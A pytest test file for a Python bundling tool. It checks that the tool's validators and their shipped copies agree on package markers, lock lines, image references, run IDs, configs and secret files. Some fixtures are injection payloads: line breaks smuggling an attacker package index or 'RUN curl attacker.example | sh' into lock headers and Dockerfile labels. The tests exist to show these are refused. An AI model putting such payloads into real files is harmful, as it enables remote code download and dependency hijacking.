"""Each contract (bundler/contracts/) agrees with its shipped copies and with every caller.

The copies in diagnostics/ and the generated project are byte-identical to what the
generator writes now; imported from their own files, they accept and refuse the same
inputs as bundler's own, contract by contract (a table each). The disagreements users saw
(``python:3.11-é``, ``--tag 'Bad Tag'``, a ``~=`` marker, a sha384 hash, `check` looser
than the pilot, a newline in ``base_image``) go through the real CLI.
"""

from __future__ import annotations

import dataclasses
import importlib
import importlib.util
import json
import os
import random
import subprocess
import sys
from pathlib import Path

import pytest
from packaging.markers import InvalidMarker, Marker, UndefinedComparison

from bundler.contracts import buildtag, bundleschema, generate, lockformat, markers, oneline, pilotconfig, reference, runid, secrets
from bundler.errors import BundlerError, LockError
from bundler.tomlcompat import tomllib
from tests import diagnostics_support  # noqa: F401  (puts diagnostics/ on sys.path: bdiag)
from tests.conftest import REPO, run_cli, scaffold_project

DIAGNOSTICS_COPY = "diagnostics/bdiag/contracts"
TEMPLATE_COPY = f"{generate.TEMPLATE_PACKAGE}/evidence/contracts"


def load_copy(folder: str, module: str):
    """A shipped copy imported from its own file (as a package of its own, beside bundler's)."""
    package = "shipped_" + "".join(char if char.isalnum() else "_" for char in folder)
    if package not in sys.modules:
        spec = importlib.util.spec_from_file_location(
            package, REPO / folder / "__init__.py", submodule_search_locations=[str(REPO / folder)]
        )
        assert spec is not None and spec.loader is not None
        sys.modules[package] = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(sys.modules[package])
    return importlib.import_module(f"{package}.{module}")


def outcome(function, *args):
    """What a call decides: its value, or the kind of refusal."""
    try:
        return ("ok", function(*args))
    except (ValueError, BundlerError) as error:
        return ("refused", type(error).__name__ if not isinstance(error, BundlerError) else "BundlerError")


# ----- the copies ------------------------------------------------------------------------------
def test_the_shipped_copies_are_what_the_generator_writes_now():
    assert generate.differing() == []
    completed = subprocess.run([sys.executable, "-m", "bundler.contracts.generate", "--check"], cwd=REPO, capture_output=True, text=True)
    assert completed.returncode == 0, completed.stderr


def test_a_copy_edited_by_hand_is_named_and_written_again(tmp_path):
    for path, text in generate.expected(tmp_path).items():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    edited = tmp_path / DIAGNOSTICS_COPY / "markers.py"
    edited.write_text(edited.read_text().replace('"<": lambda: False', '"<": lambda: left < right'))
    assert generate.differing(tmp_path) == [edited]
    assert edited.read_text().startswith("# Generated from bundler/contracts/markers.py")


# ----- markers -----------------------------------------------------------------------------------
VERSIONS = ["3.8", "3.10", "3.11", "3.11.4", "3.12.0rc1", "3.13.1", "2.7", "3", "1!3.11", "3.11.0.post1", "3.11.dev0", "3.11+local"]
SPECIFIED = [*VERSIONS, "3.*", "3.11.*", "3.10.0", "2.7.18", "3.12a1", "foo", "3.11.4-1", "3.11.0a1.post1.dev2"]
TEXTS = {"sys_platform": ["linux", "darwin", "win32"], "platform_machine": ["x86_64", "aarch64"], "os_name": ["posix", "nt"]}
OPERATORS = ["==", "!=", "<", "<=", ">", ">=", "~=", "===", "in", "not in"]


def random_marker(rng: random.Random, depth: int = 0) -> str:
    roll = rng.random()
    if depth > 2 or roll < 0.4:
        if rng.random() < 0.6:
            variable = rng.choice(["python_version", "python_full_version", "implementation_version", "platform_release"])
            value = rng.choice(SPECIFIED)
        else:
            variable = rng.choice(list(TEXTS))
            value = rng.choice([*TEXTS[variable], "lin", "3.1"])
        op = rng.choice(OPERATORS)
        return f"'{value}' {op} {variable}" if rng.random() < 0.15 else f"{variable} {op} '{value}'"
    if roll < 0.7:
        return f"{random_marker(rng, depth + 1)} {rng.choice(['and', 'or'])} {random_marker(rng, depth + 1)}"
    return f"({random_marker(rng, depth + 1)})"


def verdict_of_packaging(marker: str, environment: dict) -> object:
    try:
        return Marker(marker).evaluate(environment)
    except (UndefinedComparison, InvalidMarker):
        return "undefined"


def verdict_of(module, marker: str, environment: dict) -> object:
    try:
        return module.marker_holds(marker, environment)
    except module.MarkerError:
        return "undefined"


def test_the_marker_evaluator_and_its_diagnostics_copy_agree_with_packaging_on_generated_markers():
    rng = random.Random(20261201)
    copy = load_copy(DIAGNOSTICS_COPY, "markers")
    disagreements = []
    for _ in range(4000):
        marker = random_marker(rng)
        environment = {
            "python_version": rng.choice(VERSIONS),
            "python_full_version": rng.choice(VERSIONS),
            "implementation_version": rng.choice(VERSIONS),
            "platform_release": rng.choice(["5.15.0-91-generic", "6.1", "23.1.0"]),
            **{key: rng.choice(values) for key, values in TEXTS.items()},
        }
        expected = verdict_of_packaging(marker, environment)
        found = (verdict_of(markers, marker, environment), verdict_of(copy, marker, environment))
        if found != (expected, expected):
            disagreements.append((marker, environment, expected, found))
    assert disagreements == []


@pytest.mark.parametrize(
    ("marker", "python", "holds"),
    [
        ('python_full_version ~= "3.10.2"', "3.11.0", False),  # ~= is >= 3.10.2 and == 3.10.*: the old copy read it as >=
        ('python_full_version ~= "3.10.2"', "3.10.9", True),
        ('python_version ~= "3.10"', "3.12.1", True),
        ('python_full_version === "3.11"', "3.11.0", False),  # === compares the text
        ('python_version < "3.12" or sys_platform == "darwin" and python_version >= "3.13"', "3.11.4", True),  # and binds first
        ('"linux" in sys_platform and python_version not in "3.8 3.9"', "3.11.4", True),
    ],
)
def test_marker_forms_that_copies_used_to_read_their_own_way(marker, python, holds):
    environment = {"python_full_version": python, "python_version": ".".join(python.split(".")[:2]), "sys_platform": "linux"}
    assert Marker(marker).evaluate(environment) is holds
    assert markers.marker_holds(marker, environment) is holds
    assert load_copy(DIAGNOSTICS_COPY, "markers").marker_holds(marker, environment) is holds


def test_a_tilde_marker_no_longer_makes_the_diagnostics_call_a_pin_missing(tmp_path):
    from bdiag.checkup import read_bundle
    from bdiag.stages import packages
    from tests.diagnostics_support import FakeProbe, make_checkup, run_stage, write_bundle

    bundle = write_bundle(tmp_path)
    major, minor = sys.version_info[:2]
    marker = f'python_full_version ~= "{major}.{minor - 1}.0"'
    lock = f"--index-url https://pypi.org/simple\n\nonly-elsewhere==1.0 ; {marker} \\\n    --hash=sha256:{'a' * 64}\n"
    (tmp_path / "requirements-rebuild.txt").write_text(lock)
    probe = FakeProbe(installed_distributions={}, pip_check=(True, 0, ""))
    result = run_stage(packages, make_checkup(probe, "cpu", read_bundle(str(bundle))))
    assert result.status == "pass", result.reason
    assert result.values["not_for_this_platform"] == 1


# ----- the lock format -------------------------------------------------------------------------
DIGEST = "0" * 63 + "1"
NOT_SECRET_SAMPLES = (".env.example", "src/pilot.py", "config/pilot.json", "README.md", "tokenizer.json", "keys.py", "data/pilot/a.txt")
LOCK_LINES = [
    (f"torch==2.6.0+cu128 --hash=sha256:{DIGEST}", ("torch", "2.6.0+cu128", (DIGEST,))),
    (f"Foo_Bar[extra1, extra2]==1.0 ; python_version >= '3.10' --hash sha256:{DIGEST}", ("foo-bar", "1.0", (DIGEST,))),
    (f"numpy==2.1.0 \\\n    --hash=sha256:{DIGEST} \\\n    --hash=sha256:{'f' * 64}", ("numpy", "2.1.0", (DIGEST, "f" * 64))),
    (f"numpy==2.1.0 \\\n    # via torch\n    --hash=sha256:{DIGEST}", ("numpy", "2.1.0", ())),  # a comment line ends the continuation
    (f"numpy==2.1.0 --hash=sha384:{'a' * 96}", None),
    (f"numpy==2.1.0 --hash=sha512:{'a' * 128}", None),
    ("numpy==2.1.0 --hash=sha256:abc", None),
    (f"numpy>=2.1 --hash=sha256:{DIGEST}", None),
    (f"numpy==2.1.0 --no-deps --hash=sha256:{DIGEST}", None),
]


def read_with_bundler(text: str) -> object:
    from bundler.lock.lockfile import parse_pins

    pins = parse_pins(text)
    return (pins[0].name, pins[0].version, pins[0].hashes)


def read_with_the_diagnostics(text: str, tmp_path: Path) -> object:
    from bdiag.lockfile import read_lock

    path = tmp_path / "lock.txt"
    path.write_text(text)
    (pin,) = read_lock(str(path)).pins.values()
    return (pin.name, pin.version, pin.hashes)


@pytest.mark.parametrize(("text", "expected"), LOCK_LINES)
def test_bundler_and_the_diagnostics_read_each_lock_line_alike(text, expected, tmp_path):
    from bdiag.lockfile import LockCorrupt

    def diagnostics(value):
        return read_with_the_diagnostics(value, tmp_path)

    found_bundler = outcome(read_with_bundler, text)
    try:
        found_diagnostics = ("ok", diagnostics(text))
    except LockCorrupt:
        found_diagnostics = ("refused", "LockFormatError")
    if expected is None:
        assert found_bundler == found_diagnostics == ("refused", "LockFormatError")
    elif expected[2]:
        assert found_bundler == found_diagnostics == ("ok", expected)
    else:  # the comment line: the hashes after it are a line of their own, which is no pin
        assert found_bundler[0] == found_diagnostics[0] == "refused"


def test_a_pin_rewritten_keeps_its_extras_and_marker():
    (pin,) = lockformat.parse_body(f"Foo_Bar[gpu]==1.0 ; sys_platform == 'linux' --hash=sha256:{DIGEST}").pins
    rewritten = lockformat.render_pin(dataclasses.replace(pin, hashes=("e" * 64,)))
    assert rewritten == f"Foo_Bar[gpu]==1.0 ; sys_platform == 'linux' \\\n    --hash=sha256:{'e' * 64}"
    assert lockformat.parse_body(rewritten).pins[0].hashes == ("e" * 64,)


def write_lock(project: Path, body: str) -> Path:
    """A lock as `bundler lock` writes it (fresh header and body hash) around ``body``."""
    from bundler.lock.lockfile import LockHeader, input_hash, render_lock, target_fields
    from bundler.lock.requirements import input_text
    from bundler.target.bundle import load_bundle

    bundle = load_bundle(project)
    header = LockHeader(
        target=target_fields(bundle.target),
        build="cpu",
        index_url="https://download.pytorch.org/whl/cpu",
        extra_index_urls=(),
        base_image=bundle.target.base_image,
        bundler_version="test",
        input_sha256=input_hash(input_text(project), bundle.target),
    )
    bundle.lock_path.write_text(render_lock(bundle.lock_path.name, header, body))
    return bundle.lock_path


def test_a_sha384_hash_is_refused_by_bundler_check_and_by_the_diagnostics(tmp_path):
    from bdiag.lockfile import LockCorrupt, read_lock

    project = scaffold_project(tmp_path / "example")
    lock = write_lock(project, f"torch==2.13.0 --hash=sha384:{'a' * 96}\n")
    completed = run_cli("check", "--json", str(project))
    items = {item["name"]: item for item in json.loads(completed.stdout)["items"]}
    assert items["lock present and fresh"]["status"] == "fail"
    assert "sha384" in items["lock present and fresh"]["detail"]
    with pytest.raises(LockCorrupt, match="sha384"):
        read_lock(str(lock))


# ----- one line --------------------------------------------------------------------------------
def test_the_line_breaks_are_every_character_splitlines_breaks_on():
    breaking = {chr(code) for code in range(0x110000) if len(f"a{chr(code)}b".splitlines()) > 1}
    assert breaking == oneline.LINE_BREAKS
    for char in breaking:
        with pytest.raises(oneline.NotOneLine, match="line break"):
            oneline.one_line(f"python:3.11{char}--extra-index-url https://attacker.example/simple")


@pytest.mark.parametrize("char", sorted(oneline.LINE_BREAKS))
def test_no_line_break_in_a_header_value_reaches_the_lock(char):
    from bundler.lock.lockfile import LockHeader, render_lock

    header = LockHeader({"backend": "cpu"}, "cpu", "https://pypi.org/simple", (), f"python:3.11{char}numpy==0.1", "x", "0" * 64)
    with pytest.raises(LockError, match="base-image"):
        render_lock("requirements-rebuild.txt", header, "torch==2.13.0\n")


@pytest.mark.parametrize("value", ["python:3.11\\n--extra-index-url https://attacker.example/simple", "python:3.11\\u2028numpy==0.1"])
@pytest.mark.parametrize("key", ["base_image", "base_digest"])
def test_a_line_break_in_bundle_toml_base_image_never_reaches_the_lock(tmp_path, key, value):
    project = scaffold_project(tmp_path / "example")
    bundle_toml = project / "bundle.toml"
    text = bundle_toml.read_text()
    line = next(line for line in text.splitlines() if line.startswith(key))
    bundle_toml.write_text(text.replace(line, f'{key} = "{value}"'))
    completed = run_cli("lock", str(project))
    assert completed.returncode == 3, completed.stderr  # a project file that is wrong
    assert key in completed.stderr and "Traceback" not in completed.stderr
    assert not (project / "requirements-rebuild.txt").exists()


# ----- the image reference -----------------------------------------------------------------------
REFERENCES = {
    "python:3.11-slim-bookworm": True,
    "registry.example.com:5000/team/app:1.0": True,
    f"ghcr.io/org/app@sha256:{'a' * 64}": True,
    f"localhost/app:v2@sha256:{'b' * 64}": True,
    "python:3.11-é": False,
    "Bad Tag": False,
    "Team/App:1": False,
    "app:": False,
    "app:-1": False,
    "a..b/app": False,
    "app@sha256:short": False,
    "app:1\n": False,
    "a" * 256: False,
}


@pytest.mark.parametrize(("text", "valid"), REFERENCES.items(), ids=[repr(key)[:40] for key in REFERENCES])
def test_every_command_takes_the_same_image_references(text, valid):
    from bundler import scaffold
    from bundler.image.handoff import split_reference
    from bundler.jobs.reference import parse_image
    from bundler.target.bundle import Target, validate_target

    found = {
        "contract": outcome(reference.parse_reference, text)[0] == "ok",
        "job --image": outcome(lambda value: parse_image(value, archives=False), text)[0] == "ok",
        "bundle.toml base_image": outcome(validate_target, Target("cpu", "", "2.13.0", "3.11", base_image=text))[0] == "ok",
        "new --set base_image": outcome(scaffold.validate_answers, {**DEFAULT_ANSWERS, "base_image": text})[0] == "ok",
    }
    if "@" not in text:  # --tag and --push take a tag, never a digest
        found["build --tag"] = outcome(split_reference, text, "--tag")[0] == "ok"
    assert found == dict.fromkeys(found, valid)


DEFAULT_ANSWERS: dict = {}


@pytest.fixture(autouse=True, scope="module")
def default_answers(tmp_path_factory):
    from bundler import scaffold

    DEFAULT_ANSWERS.update(scaffold.build_answers(tmp_path_factory.mktemp("answers") / "example", name=None, backend=None, settings={}))


def test_bundler_new_refuses_the_reference_bundler_job_refuses(tmp_path):
    completed = run_cli("new", str(tmp_path / "example"), "--no-input", "--set", "base_image=python:3.11-é")
    assert completed.returncode == 2, completed.stderr
    assert "base_image 'python:3.11-é' is not an image reference" in completed.stderr
    assert "outside ASCII" in completed.stderr
    assert not (tmp_path / "example").exists()


def test_a_bad_tag_is_refused_naming_the_tag_flag(tmp_path):
    project = scaffold_project(tmp_path / "example")
    completed = run_cli("build", str(project), "--tag", "Bad Tag")
    assert completed.returncode == 2, completed.stderr
    assert "--tag 'Bad Tag' is not a valid image reference" in completed.stderr
    assert "--push" not in completed.stderr.split("Hint")[0]


# ----- the build tag and the torch build ---------------------------------------------------------
@pytest.mark.parametrize(
    ("backend", "accelerator", "tag"),
    [("cuda", "12.8", "cu128"), ("cuda", "13.0", "cu130"), ("rocm", "6.4", "rocm6.4"), ("rocm", "6.2.4", "rocm6.2.4"), ("cpu", "", "cpu")],
)
def test_bundler_and_the_diagnostics_name_a_build_alike(backend, accelerator, tag):
    from bdiag.datasheet import index_tag
    from bundler.target.versions import build_name

    assert build_name(backend, accelerator) == index_tag(backend, accelerator) == tag
    assert load_copy(DIAGNOSTICS_COPY, "buildtag").build_tag(backend, accelerator) == tag


TORCH_BUILDS = [  # (installed version, cuda, hip), (backend, accelerator), the Target's build?
    (("2.13.0+cu128", "12.8", None), ("cuda", "12.8"), True),
    (("2.13.0", "12.8", None), ("cuda", "12.8"), True),  # PyPI's unlabelled CUDA wheel
    (("2.13.0+cu128", "12.8", None), ("cuda", "12.9"), False),
    (("2.13.0+cu128", "12.80", None), ("cuda", "12.8"), False),  # a prefix is not the version
    (("2.13.0+rocm6.4", None, "6.4.43482-0f2d60242"), ("rocm", "6.4"), True),
    (("2.13.0+rocm6.4", None, "6.4.43482"), ("rocm", "6.3"), False),
    (("2.13.0+cpu", None, None), ("cuda", "12.8"), False),
    (("2.13.0+cu128", "12.8", None), ("cpu", ""), False),
    (("2.13.0+cpu", None, None), ("cpu", ""), True),
    (("2.12.0+cpu", None, None), ("cpu", ""), False),
]


def installcheck_verdict(tmp_path: Path, installed: tuple, target: tuple) -> bool:
    """The build's torch check (bundler/inimage/torchbuild.py, as the image runs it) over a stand-in torch module."""
    from bundler.image.checks import torch_build_args
    from bundler.target.bundle import Target

    stub = tmp_path / "stub" / "torch"
    stub.mkdir(parents=True, exist_ok=True)
    version, cuda, hip = installed
    (stub / "__init__.py").write_text(f"__version__ = {version!r}\nclass version:\n    cuda = {cuda!r}\n    hip = {hip!r}\n")
    argv = [sys.executable, "-m", "bundler.inimage.torchbuild", *torch_build_args(Target(target[0], target[1], "2.13.0", "3.11"))]
    completed = subprocess.run(argv, env={"PYTHONPATH": f"{stub.parent}{os.pathsep}{REPO}"}, capture_output=True, text=True)
    assert completed.returncode in (0, 1), completed.stderr
    return completed.returncode == 0


def diagnostics_verdict(tmp_path: Path, installed: tuple, target: tuple) -> bool:
    from bdiag.checkup import read_bundle
    from bdiag.stages import torchbuild
    from tests.diagnostics_support import FakeProbe, make_checkup, run_stage, write_bundle

    version, cuda, hip = installed
    bundle = read_bundle(str(write_bundle(tmp_path / "diag", backend=target[0], accelerator=target[1])))
    probe = FakeProbe(torch_versions={"version": version, "cuda": cuda, "hip": hip}, cuda_available=True)
    checkup = make_checkup(probe, None, bundle)
    checkup.backend = target[0]
    return run_stage(torchbuild, checkup).status == "pass"


@pytest.mark.parametrize(("installed", "target", "expected"), TORCH_BUILDS)
def test_the_build_check_and_the_diagnostics_judge_torch_builds_alike(tmp_path, installed, target, expected):

    got = buildtag.TorchBuild(*installed)
    assert (buildtag.torch_build_problems(got, "2.13.0", *target) == []) is expected
    assert installcheck_verdict(tmp_path, installed, target) is expected
    assert diagnostics_verdict(tmp_path, installed, target) is expected


# ----- the run ID ------------------------------------------------------------------------------
RUN_IDS = {
    "20261201T101500Z-ab12": True,
    "pilot-001": True,
    "a" * 80: True,
    "a" * 81: False,
    "..": False,
    ".hidden": False,
    "a/b": False,
    "run١": False,  # an Arabic-Indic digit: not ASCII
    "": False,
    "-rf": False,
}


@pytest.mark.parametrize(("run_id", "valid"), RUN_IDS.items(), ids=[repr(key)[:30] for key in RUN_IDS])
def test_bundler_and_the_pilot_take_the_same_run_ids(tmp_path, run_id, valid):
    from bundler.evidence.runs import run_folder

    project = scaffold_project(tmp_path / "example") if not (tmp_path / "example").exists() else tmp_path / "example"
    assert runid.is_run_id(run_id) is valid
    assert load_copy(TEMPLATE_COPY, "runid").is_run_id(run_id) is valid
    assert (outcome(run_folder, project, run_id)[0] == "ok") is valid


# ----- the pilot's config ----------------------------------------------------------------------
PARAMETERS = {"model": {"features": (int, 1, 1 << 20)}, "training": {"steps": (int, 1, 1000)}}
SOUND = {
    "categories": ["a", "b"],
    "data_dir": "data/pilot",
    "manifest": "data/pilot/MANIFEST.json",
    "runs_dir": "runs",
    "expected_documents": 3,
    "expected_rejections": 1,
    "limits": {"min_chars": 1, "max_chars": 10},
    "model": {"features": 8},
    "training": {"steps": 1},
}
CONFIGS = {
    "sound": (json.dumps(SOUND), None),
    "a key twice": (json.dumps(SOUND)[:-1] + ', "runs_dir": "other"}', ""),
    "a misspelt section": (json.dumps({**SOUND, "stop_rule": {}}), "stop_rule"),
    "a section missing": (json.dumps({key: value for key, value in SOUND.items() if key != "limits"}), "limits"),
    "a string count": (json.dumps({**SOUND, "expected_documents": "3"}), "expected_documents"),
    "NaN": (json.dumps(SOUND).replace('"features": 8', '"features": NaN'), ""),
    "a path outside": (json.dumps({**SOUND, "runs_dir": "../runs"}), "runs_dir"),
}


def config_verdict(module, text: str):
    try:
        module.check_config(module.parse_config(text), PARAMETERS)
    except module.ConfigProblem as problem:
        return problem.key
    return None


@pytest.mark.parametrize(("text", "refused_key"), CONFIGS.values(), ids=list(CONFIGS))
def test_bundler_and_the_pilot_share_the_config_schema(text, refused_key):
    assert config_verdict(pilotconfig, text) == refused_key
    assert config_verdict(load_copy(TEMPLATE_COPY, "pilotconfig"), text) == refused_key


@pytest.fixture(scope="module")
def generated_project(tmp_path_factory) -> Path:
    return scaffold_project(tmp_path_factory.mktemp("pilot") / "example")


@pytest.mark.parametrize(
    "edit",
    [
        lambda text: text.replace('"runs_dir": "runs",', '"runs_dir": "runs",\n  "runs_dir": "runs",'),
        lambda text: text.replace('"stop_rules"', '"stop_rule"'),
        lambda text: text.replace('"steps": 1,', '"steps": "1",'),
    ],
    ids=["a key twice", "a misspelt section", "a string count"],
)
def test_what_the_pilot_refuses_bundler_check_refuses(generated_project, tmp_path, edit):
    import shutil

    project = tmp_path / "example"
    shutil.copytree(generated_project, project, symlinks=True)
    config = project / "config/pilot.json"
    config.write_text(edit(config.read_text()))
    pilot = subprocess.run(
        [sys.executable, "-m", "example.pilot", "--config", "config/pilot.json"],
        cwd=project,
        env={"PYTHONPATH": str(project / "src"), "PATH": "/usr/bin:/bin"},
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert pilot.returncode == 2, pilot.stderr
    checked = run_cli("check", "--json", str(project))
    items = {item["name"]: item for item in json.loads(checked.stdout)["items"]}
    assert items["config/pilot.json valid and secret-free"]["status"] == "fail", items


# ----- the secrets -----------------------------------------------------------------------------
def test_the_context_the_export_and_check_agree_on_what_is_a_secret(tmp_path):
    from bundler.evidence.runs import export_run
    from bundler.image.context import collect
    from bundler.portability.check import secrets_outside_dockerignore
    from bundler.target.bundle import load_bundle

    table = {path: True for path in secrets.SECRET_SAMPLES} | {path: False for path in NOT_SECRET_SAMPLES}
    project = scaffold_project(tmp_path / "example")
    (project / ".dockerignore").write_text("runs/\n")
    run = project / "runs" / "r1"
    for path in table:
        for folder in (project, run):
            (folder / path).parent.mkdir(parents=True, exist_ok=True)
            (folder / path).write_text("value\n")
    withheld = set(collect(project).secrets)
    exported = export_run(run, tmp_path / "out", reload=False)
    left_behind = {path for path in table if not (tmp_path / "out" / path).exists()}
    flagged = set(secrets_outside_dockerignore(load_bundle(project)))
    for path, secret in table.items():
        assert secrets.is_secret_path(path) is secret, path
        assert (path in withheld) is secret, ("context", path)
        assert (path in left_behind) is secret, ("export", path)
        assert (path in flagged) is secret, ("check", path)
    assert set(exported.withheld) == {path for path, secret in table.items() if secret}


def test_a_private_key_is_a_secret_by_its_content_whatever_its_name(tmp_path):
    from bundler.contracts.secrets import looks_secret

    key = tmp_path / "deploy_material"
    key.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nabc\n-----END OPENSSH PRIVATE KEY-----\n")
    assert looks_secret("deploy_material", key)
    assert secrets.is_secret_content(b"-----BEGIN PGP PRIVATE KEY BLOCK-----\n")
    assert not secrets.is_secret_content(b"-----BEGIN CERTIFICATE-----\n")


@pytest.mark.parametrize("char", sorted(oneline.LINE_BREAKS))
def test_a_line_break_in_a_recorded_value_stays_inside_the_job_files_header(char):
    import yaml

    from bundler.jobs.jobfile import compose, split

    body = "name: job\n"
    text = compose("sky", {"card": f"H100{char}workdir: ~/"}, body)
    fields, rest = split(text)
    assert rest == body and fields["card"] == "H100?workdir: ~/"
    assert yaml.safe_load(text) == {"name": "job"}  # YAML ends a comment at U+2028 too: nothing leaks out


@pytest.mark.parametrize("char", sorted(oneline.LINE_BREAKS))
def test_a_line_break_in_a_label_stays_on_the_dockerfiles_line(char):
    from bundler.image.dockerfile import label_instruction

    instruction = label_instruction({"org.example.note": f"a{char}RUN curl attacker.example | sh"})
    assert len(instruction.splitlines()) == 1 and "RUN" not in instruction.split('"')[0]


# ----- bundle.toml's schema ---------------------------------------------------------------------
BUNDLE = '[project]\nname = "P"\npackage = "p"\nentry = "python -m p"\n[target]\nbackend = "cpu"\ntorch = "2.13.0"\npython = "3.11"\n'
BUNDLES = {
    "sound": (BUNDLE + '[build]\nlock = "requirements-rebuild.txt"\n[diagnostics]\ndataloader_workers = 4\n', None),
    "an unknown key": (BUNDLE.replace('python = "3.11"', 'python = "3.11"\npyhton = "3.12"'), "unknown key 'pyhton' in [target]"),
    "an unknown section": (BUNDLE + "[diagnostic]\n", "unknown key 'diagnostic' in the top level"),
    "no [target]": (BUNDLE.split("[target]")[0], "section [target] is missing"),
    "a number for a string": (BUNDLE.replace('torch = "2.13.0"', "torch = 2.13"), "[target] torch must be a string, got 2.13 (float)"),
    "an unknown backend": (BUNDLE.replace('"cpu"', '"tpu"'), "[target] backend is an unknown backend 'tpu': use one of cuda, rocm, cpu"),
    "negative workers": (BUNDLE + "[diagnostics]\ndataloader_workers = -1\n", "[diagnostics] dataloader_workers must be a whole number"),
    "workers as text": (BUNDLE + '[diagnostics]\ndataloader_workers = "8"\n', "[diagnostics] dataloader_workers must be a whole number"),
    "an extension without module": (BUNDLE + '[[extensions]]\nname = "flash-attn"\n', "[[extensions]] #1 module is missing or empty"),
    "a bad import name": (BUNDLE + '[[extensions]]\nname = "x"\nmodule = "flash-attn"\n', "[[extensions]] #1 module 'flash-attn' is not"),
    "a table for a section's key": (BUNDLE + "[build]\nlock = 7\n", "[build] lock 7 is not a file path inside the project"),
}


@pytest.mark.parametrize(("text", "refused"), BUNDLES.values(), ids=list(BUNDLES))
def test_bundler_and_the_diagnostics_refuse_the_same_bundle_toml(text, refused, tmp_path):
    from bdiag.checkup import read_bundle
    from bundler.errors import ProjectFileError
    from bundler.target.bundle import load_bundle

    (tmp_path / "bundle.toml").write_text(text, encoding="utf-8")
    try:
        load_bundle(tmp_path)
        by_bundler = None
    except ProjectFileError as error:
        by_bundler = str(error.message)
    by_diagnostics = read_bundle(str(tmp_path / "bundle.toml")).error
    data = tomllib.loads(text)
    problems = [module.bundle_problem(data) for module in (bundleschema, load_copy(DIAGNOSTICS_COPY, "bundleschema"))]
    found = [dataclasses.astuple(problem) if problem else None for problem in problems]
    if refused is None:
        assert (by_bundler, by_diagnostics, found) == (None, None, [None, None])
    else:
        assert found[0] == found[1] and problems[0] is not None and problems[0].text.startswith(refused)
        assert by_diagnostics == problems[0].text and by_bundler == f"{tmp_path / 'bundle.toml'}: {problems[0].text}."


def test_a_key_added_to_the_schema_is_known_to_bundler_and_to_the_diagnostics(tmp_path, monkeypatch):
    """Adding a key is the one line of KEYS: both readers then take it, and its check refuses a wrong value."""
    from bdiag.checkup import read_bundle
    from bundler.target.bundle import load_bundle

    text = BUNDLE + '[build]\napt_sources = ["bookworm-backports"]\n'
    (tmp_path / "bundle.toml").write_text(text, encoding="utf-8")
    assert "unknown key 'apt_sources' in [build]" in read_bundle(str(tmp_path / "bundle.toml")).error
    import bdiag.contracts.bundleschema as copy  # the copy the diagnostics import

    for module in (bundleschema, copy):
        monkeypatch.setitem(module.KEYS, "build", {**module.KEYS["build"], "apt_sources": module.names})
    assert load_bundle(tmp_path).name == "P" and read_bundle(str(tmp_path / "bundle.toml")).error is None
    wrong = copy.bundle_problem(tomllib.loads(text.replace('["bookworm-backports"]', '"bookworm-backports"')))
    assert wrong.text.startswith("[build] apt_sources must be a list")


# ----- plan.toml's order ------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("card", "lots", "per_lot", "accepted"),
    [
        ('"H200"', "1", "1", True),
        ('"H200"', "10", "16", True),
        ('"H200"', "11", "1", False),  # more lots than bundler prices: the diagnostics refuse them too
        ('"H200"', "0", "1", False),
        ('"H200"', "true", "1", False),
        ('"H200"', '"2"', "1", False),
        ('"H200"', "2", "17", False),
        ('"H200"', "2", "0", False),
        ('"H300"', "1", "1", False),  # not in the catalog
    ],
)
def test_bundler_plan_and_the_diagnostics_take_the_same_orders(tmp_path, card, lots, per_lot, accepted):
    from bdiag.checkup import load_toml
    from bdiag.order import OrderError, read_order
    from bundler.errors import ProjectFileError
    from bundler.evidence.campaign import load_campaign

    (tmp_path / "plan.toml").write_text(f"[package]\ncard = {card}\ndays = 3\nlots = {lots}\n", encoding="utf-8")
    (tmp_path / "catalog.toml").write_text(f'[cards."H200"]\ncards_per_lot = {per_lot}\nprice = {{ 3 = "10" }}\n', encoding="utf-8")
    verdicts = []
    for read, refusal in ((lambda: load_campaign(tmp_path), ProjectFileError), (lambda: read_order(str(tmp_path), load_toml), OrderError)):
        try:
            read()
            verdicts.append(True)
        except refusal:
            verdicts.append(False)
    assert verdicts == [accepted, accepted]


# ----- which Debian package provides a missing library ----------------------------------------


def test_the_build_and_the_diagnostics_name_the_same_debian_package_for_every_library_of_the_table():
    from bdiag import imports as diagnostics_imports
    from bundler.image import importcheck
    from bundler.target import syspackages

    table = syspackages.provides()
    assert diagnostics_imports.system_libraries()["libraries"] == table["libraries"]  # the JSON copy holds the TOML's rows
    for stem, package in table["libraries"].items():
        error = f"ImportError: {stem}.1: cannot open shared object file: No such file or directory"
        assert importcheck.system_package(error)[0] == package
        hint = diagnostics_imports.hint_for(error, "somedist", "1.0")
        assert f"the Debian package {package} provides" in hint and f'system_packages = ["{package}"]' in hint, hint
    unknown = "ImportError: libnotinthetable.so.3: cannot open shared object file: No such file or directory"
    assert importcheck.system_package(unknown) == ("", "")
    assert "choose a base image" in diagnostics_imports.hint_for(unknown, "somedist", "1.0")


def test_a_submodule_the_installed_release_dropped_is_not_a_package_to_add():
    from importlib import metadata

    from bdiag import imports as diagnostics_imports

    hint = diagnostics_imports.hint_for("ModuleNotFoundError: No module named 'packaging._six'", "torch-geometric", "1.7.0")
    assert f"a module packaging {metadata.version('packaging')} no longer has" in hint and "older packaging" in hint
    assert "optional extra" not in hint
    assert "optional extra" in diagnostics_imports.hint_for("ModuleNotFoundError: No module named 'nosuchpkg.sub'", "d", "1.0")


def test_a_hand_edit_of_the_tables_json_copy_is_found_stale(tmp_path):
    for path, text in generate.expected(tmp_path).items():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    copy = tmp_path / next(iter(generate.DATA_COPIES))
    table = json.loads(copy.read_text(encoding="utf-8"))
    assert table["libraries"]["libGL.so"] == "libgl1"
    table["libraries"]["libGL.so"] = "libgl1-mesa-glx"
    copy.write_text(json.dumps(table), encoding="utf-8")
    assert generate.differing(tmp_path) == [copy]


@pytest.mark.parametrize(
    ("text", "host"),
    [
        ("registry.example.com:5000/team/x:1", "registry.example.com:5000"),
        ("localhost/x", "localhost"),
        ("127.0.0.1:5000/x@sha256:" + "a" * 64, "127.0.0.1:5000"),
        ("team/x:1", ""),
        ("python:3.11-slim", ""),
        ("ghcr.io/o/r", "ghcr.io"),
    ],
)
def test_one_reading_of_the_registry_a_reference_names(text, host):
    """The push's credentials, the Slurm script's pull and Pyxis' spelling, and SkyPilot's login all read it here."""
    assert reference.registry_host(text) == host
